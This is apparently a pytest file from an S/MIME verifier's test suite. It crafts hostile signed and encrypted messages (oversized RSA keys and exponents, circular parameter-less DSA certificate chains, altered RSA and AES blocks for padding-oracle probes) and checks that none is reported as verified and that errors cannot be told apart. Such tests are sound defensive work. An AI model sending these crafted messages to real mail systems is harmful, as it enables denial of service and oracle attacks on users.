@attack("hostile structures", "an RSA key of 65,536 bits", "unauthenticated")
def _(w: World) -> bytes:
    return ALICE + w.clear(TEXT, signature=_with_key(w, b"\0" + b"\xff" * 8192, b"\x01\0\x01"))


@attack("hostile structures", "an RSA key of 16,384 bits", "failed")
def _(w: World) -> bytes:
    return ALICE + w.clear(TEXT, signature=_with_key(w, b"\0" + b"\xff" * 2048, b"\x01\0\x01"))


@attack("hostile structures", "an RSA exponent of 2048 bits", "unauthenticated")
def _(w: World) -> bytes:
    return ALICE + w.clear(TEXT, signature=_with_key(w, b"\0" + b"\xff" * 256, b"\0" + b"\xff" * 255 + b"\x01"))


def _with_key(w: World, modulus: bytes, exponent: bytes) -> bytes:
    """The signer's certificate, which the reader does not know, with another key in it."""
    certificate = w.pki.alice["both"].certificate
    bits = b"\0" + encode.sequence(encode.primitive(2, modulus), encode.primitive(2, exponent))
    spki = encode.sequence(encode.sequence(encode.oid(oids.RSA), encode.NULL), encode.primitive(3, bits))
    outer = [bytes(one.raw) for one in read(certificate.der).children()]
    inner = [bytes(one.raw) for one in read(outer[0]).children()]
    inner = [spki if one == certificate.spki_der else one for one in inner]
    changed = encode.sequence(encode.sequence(*inner), *outer[1:])
    parts = members(w.signature(TEXT, "both"))
    parts[3] = encode.constructed(tagged(0), changed)
    return info(oids.SIGNED_DATA, *parts)


@attack("hostile structures", "DSA keys that take their parameters from each other", "unauthenticated")
def _(w: World) -> bytes:
    name = make_name("In circles")
    bare = encode.sequence(encode.sequence(encode.oid("1.2.840.10040.4.1")), encode.primitive(3, b"\0\x02\x01\x05"))
    circle = [
        make_certificate(
            subject=name,
            issuer=name,
            public_key=PublicKey.unusable(bare, "it lacks its parameters"),
            signer=w.key,
            not_before=START,
            not_after=END,
            serial=number,
        )
        for number in range(1, 190)
    ]
    parts = members(w.signature(TEXT))
    parts[3] = encode.constructed(tagged(0), *(one.der for one in circle))
    (signer,) = read(parts[-1]).children()
    fields = [bytes(one.raw) for one in signer.children()]
    fields[1] = encode.sequence(name, encode.integer(1))
    fields[4] = encode.sequence(encode.oid("2.16.840.1.101.3.4.3.2"))
    parts[-1] = encode.set_of((encode.sequence(*fields),))
    return ALICE + w.clear(TEXT, signature=info(oids.SIGNED_DATA, *parts))


# -- how they are judged ---------------------------------------------------------------------------------------


class _NoFetcher:
    """A fetcher whose use is a finding."""

    async def fetch(self, url: str, *, data: bytes | None = None, limit: int = 0) -> NoReturn:
        raise AssertionError(f"{url} was fetched")


class _Trust:
    def __init__(self, *anchors: Certificate) -> None:
        self._anchors = anchors

    def anchors(self) -> tuple[Certificate, ...]:
        return self._anchors

    def trusted_for(self, address: str) -> tuple[Certificate, ...]:
        del address
        return ()


async def judge(octets: bytes, pki: Any) -> Report:
    opener = Opener(name="smime", methods=("smime",), content_types=CONTENT_TYPES, open=open_part)
    services = Services(
        make_resolver(""), fetcher=_NoFetcher(), trust=_Trust(pki.authority.certificate), keys=pki.keyring("rsa")
    )
    return await Runner([], [Registered(opener, "smime")], services=services).check(parse(octets))


@pytest.mark.parametrize("one", ATTACKS, ids=lambda one: f"{one.kind}: {one.name}")
async def test_an_attack(one: Attack, pki: Any) -> None:
    report = await judge(one.make(World(pki)), pki)
    verdict = report.verdict
    assert report.problems == ()
    assert str(verdict.level) == one.level, verdict.sentence
    assert one.words in verdict.sentence
    if one.layers is not None:
        assert [f"{layer.part} {layer.reached}" for layer in report.layers[1:]] == list(one.layers)
    if one.level != "verified":
        assert verdict.identity == ""
    for result in report.results:
        if "policy.encryption" in result.properties:
            cbc = "cbc" in result.reason
            assert result.properties["policy.encryption"] == ("unauthenticated" if cbc else "authenticated")


async def test_the_attacks_start_from_something_that_works(pki: Any) -> None:
    w = World(pki)
    for octets in (w.clear(TEXT), w.opaque(TEXT), w.encrypted(w.clear(TEXT)), w.encrypted(w.opaque(TEXT))):
        report = await judge(ALICE + octets, pki)
        assert str(report.verdict.level) == "verified"


@pytest.mark.parametrize("cipher", ["aes256-gcm", "aes256-cbc"])
async def test_errors_that_could_be_told_apart(pki: Any, cipher: str) -> None:
    """Bleichenbacher's and Vaudenay's oracles: what comes of a message is the same, whatever is wrong with it."""
    w = World(pki)
    octets = w.enveloped(TEXT, cipher)
    enveloped = parse_enveloped_data(octets)
    (recipient,) = enveloped.recipients
    key = recipient.encrypted_key  # type: ignore[union-attr]
    public = pki.alice["rsa"].certificate.public_key.native.public_numbers()

    def block(start: bytes, secret: bytes) -> bytes:
        filled = start + b"\xaa" * (255 - len(start) - len(secret)) + b"\0" + secret
        return pow(int.from_bytes(filled), public.e, public.n).to_bytes(256)

    ends = set()
    wrong = [block(b"\0\x01", bytes(32)), block(b"\x01\x02", bytes(32)), block(b"\0\x02", bytes(31))]
    wrong += [block(b"\0\x02", bytes(33)), block(b"\0\x02", bytes(32)), bytes(256), b"\xff" * 256]
    changed = [octets.replace(key, one) for one in wrong]
    encrypted = b"".join(enveloped.pieces)
    if cipher == "aes256-gcm":
        changed += [_flip(octets, encrypted), _flip(octets, enveloped.tag), _flip(octets, encrypted[-4:])]
    else:
        last = len(encrypted) - 17  # changes the last octet of the padding
        changed += [octets.replace(encrypted, _flip(encrypted, encrypted[last : last + 16]))]
    for one in changed:
        report = await judge(ALICE + mime(one), pki)
        if cipher == "aes256-cbc" and len(report.layers) == 2:
            continue  # one wrong key in 256 gives a right padding, and then always: see test_enveloped_attacks.py
        (result,) = report.results
        ends.add((result.result, result.reason, result.cause, tuple(result.properties.items()), result.evidence))
        assert len(report.layers) == 1
    assert len(ends) == 1


def test_the_table(figure: Callable[[str], None]) -> None:
    counts = Counter(one.kind for one in ATTACKS)
    assert len({(one.kind, one.name) for one in ATTACKS}) == len(ATTACKS)
    classes = ", ".join(f"{kind} {count}" for kind, count in counts.items())
    figure(f"attacks on S/MIME, a message for each, none judged higher than is true: {len(ATTACKS)} ({classes})")
